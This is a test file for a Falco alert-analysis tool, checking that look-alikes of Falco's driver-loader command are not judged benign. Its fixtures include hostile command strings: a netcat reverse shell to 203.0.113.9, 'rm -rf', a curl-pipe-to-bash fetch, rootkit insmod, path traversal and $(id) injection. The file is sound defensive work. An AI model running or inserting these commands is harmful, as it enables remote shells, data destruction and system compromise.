import { describe, expect, it } from "vitest";
import { analyse } from "../../../src/core/analysis/analyse.ts";
import { plainText } from "../../../src/core/analysis/analysis.ts";
import type { FieldValue } from "../../../src/core/falco/alert.ts";
import { FIXTURES, fixture, PLAYBOOKS, withFields } from "./alerts.ts";

const ENTRYPOINT = "bash /docker-entrypoint.sh auto";
const LABEL =
  'bash -c chcon -t modules_object_t "/root/.falco/7.3.0+driver/x86_64/falco_ubuntu-generic_5.4.0-198-generic_218.ko"';

function verdictOf(cmdline: string, fields: Record<string, FieldValue> = {}): string {
  return analyse(withFields(fixture("report-1"), { "proc.cmdline": cmdline, ...fields }), PLAYBOOKS).verdict.kind;
}

describe("a command that only resembles that of Falco's driver loader", () => {
  it.each([ENTRYPOINT, LABEL, "bash /docker-entrypoint.sh kmod", "bash /docker-entrypoint.sh modern_ebpf"])(
    "is the real one: %s",
    (cmdline) => {
      const { verdict } = analyse(withFields(fixture("report-1"), { "proc.cmdline": cmdline }), PLAYBOOKS);

      expect(verdict.kind).toBe("probably benign, unconfirmed");
      expect(plainText(verdict.because)).toBe("Falco's own driver loader");
    },
  );

  it.each([
    `${ENTRYPOINT}; rm -rf /data`,
    `${ENTRYPOINT} && nc -e /bin/sh 203.0.113.9 4444`,
    `${ENTRYPOINT} -c id`,
    `${ENTRYPOINT}mine --pool x`,
    `${ENTRYPOINT}\nid`,
    `${ENTRYPOINT} ${"; ".repeat(100_000)}`,
    "bash /tmp/docker-entrypoint.sh auto",
    'bash -c chcon -t modules_object_t "/root/.falco/$(curl -s http://203.0.113.9/x).ko"',
    'bash -c chcon -t modules_object_t "/root/.falco/a.ko"; rm -rf / #.ko"',
    'bash -c chcon -t modules_object_t "/root/.falco/a.ko"; insmod /tmp/rootkit.ko "/tmp/x.ko"',
    'bash -c chcon -t modules_object_t "/root/.falco/../../tmp/rootkit.ko"',
    LABEL.replace("x86_64/falco", "x86_64/../../../tmp/falco"),
    LABEL.replace("7.3.0+driver/x86_64", "../.."),
    LABEL.replace("218.ko", "`id`.ko"),
    LABEL.replace("falco_ubuntu", "falco_$(id)"),
    LABEL.replace("falco_ubuntu", "rootkit_ubuntu"),
    LABEL.replace('.ko"', '.ko" "/tmp/x.ko"'),
    LABEL.replace('.ko"', '.ko" & id'),
    LABEL.replace("falco_ubuntu", "falco_a b"),
  ])("is not believed: %s", (cmdline) => {
    expect(verdictOf(cmdline)).not.toBe("probably benign, unconfirmed");
  });

  const contrary: readonly (readonly [string, Record<string, FieldValue>])[] = [
    ["on the node itself", { "container.id": "host" }],
    ["started by sshd", { "proc.pname": "sshd" }],
    ["started by nginx", { "proc.pname": "nginx" }],
    ["started by curl", { "proc.pname": "curl" }],
    ["below a web server", { "proc.pname": "bash", "proc.aname[3]": "nginx" }],
    ["below a shell that fetches", { "proc.pname": "bash", "proc.pcmdline": "bash -c curl http://203.0.113.9|bash" }],
    ["below a parent that names a server", { "proc.pcmdline": "php-fpm: pool www" }],
    ["in another image", { "container.image": "evil/miner:latest", "container.image.repository": "<NA>" }],
    ["in a look-alike image", { "container.image": "evil.io/falcosecurity/falco-driver-loader:0.39.1" }],
    ["in another repository", { "container.image.repository": "evil.io/falcosecurity/falco-driver-loader" }],
    ["in a container of another name", { "container.name": "evil-miner" }],
    ["in another pod", { "k8s.ns.name": "shop", "k8s.pod.name": "web-7dc4876c85-p5wt7" }],
    ["in another namespace", { "k8s.ns.name": "shop" }],
    ["by a shell in a writable directory", { "proc.exepath": "/tmp/bash" }],
    ["by a shell of another name", { "proc.exepath": "/opt/x/bash" }],
    ["by a shell that came later", { "proc.is_exe_upper_layer": true }],
    ["by a shell in memory", { "proc.is_exe_from_memfd": true }],
    ["by another program", { "proc.name": "xmrig" }],
    ["as another user", { "user.name": "www-data" }],
    ["as another user id", { "user.uid": 33 }],
    ["with a terminal", { "proc.tty": 34816 }],
  ];
  it.each(contrary)("is not believed %s", (_, fields) => {
    expect(verdictOf(ENTRYPOINT, fields)).not.toBe("probably benign, unconfirmed");
    expect(verdictOf(LABEL, fields)).not.toBe("probably benign, unconfirmed");
  });

  it("is believed with every field as the loader has it", () => {
    const fields = {
      "container.image": "docker.io/falcosecurity/falco-driver-loader:0.39.1",
      "container.image.repository": "docker.io/falcosecurity/falco-driver-loader",
      "container.name": "falco-driver-loader",
      "k8s.ns.name": "falco",
      "k8s.pod.name": "falco-x2x4z",
      "proc.exepath": "/usr/bin/bash",
      "proc.tty": 0,
      "user.uid": 0,
      "proc.is_exe_upper_layer": false,
    };
    const shim = { "proc.pname": "containerd-shim", "proc.aname[2]": "systemd" };
    const falcoctl = { "proc.pname": "falcoctl", "proc.pcmdline": "falcoctl driver install --type kmod" };

    expect(verdictOf(ENTRYPOINT, { ...fields, ...shim })).toBe("probably benign, unconfirmed");
    expect(verdictOf(LABEL, { ...fields, ...falcoctl })).toBe("probably benign, unconfirmed");
  });
});

describe("what speaks for a harmless cause", () => {
  const benign = PLAYBOOKS.flatMap((playbook) =>
    playbook.content.signals
      .filter((signal) => signal.effect === "benign" && signal.weight !== "weak")
      .map((signal) => ({ name: `${playbook.content.id}/${signal.id}`, when: signal.when })),
  );

  it.each(benign)("$name rests on no part of a command line and on no end of a name", ({ when }) => {
    const withoutExclusions = when.replaceAll(/\bnot [\w.]+(?:\[\d\])? \w+/g, "");

    expect(withoutExclusions).not.toMatch(
      /proc\.(?:p?cmdline|args|name|pname|env)(?:\[\d\])? (?:any|all|one)?(?:of )?(?:i?contains|startswith|endswith|i?glob)\b/,
    );
    expect(withoutExclusions).not.toMatch(/(?:exepath|image(?:\.repository)?) (?:i?contains|endswith|i?glob)\b/);
    expect(withoutExclusions).not.toMatch(/ oneof /);
  });

  it.each(FIXTURES.filter((item) => item.verdict === "probably benign, unconfirmed"))(
    "$name is not believed for its command with another one behind it",
    ({ alert }) => {
      const texts = ["proc.cmdline", "proc.args"].filter((name) => typeof alert.fields[name] === "string");
      const longer = Object.fromEntries(
        texts.map((name) => [name, `${String(alert.fields[name])}; /opt/evil x`] satisfies [string, string]),
      );
      const { evidence } = analyse(withFields(alert, longer), PLAYBOOKS);

      // What rests on the command alone is gone; the image or the parent may still speak.
      const believed = evidence.filter((item) => item.effect === "benign" && item.weight !== "weak");
      expect(believed.flatMap((item) => item.quotes.map((quote) => quote.field))).not.toEqual(
        expect.arrayContaining(["proc.cmdline"]),
      );
      expect(believed.flatMap((item) => item.quotes.map((quote) => quote.field))).not.toEqual(
        expect.arrayContaining(["proc.args"]),
      );
    },
  );
});
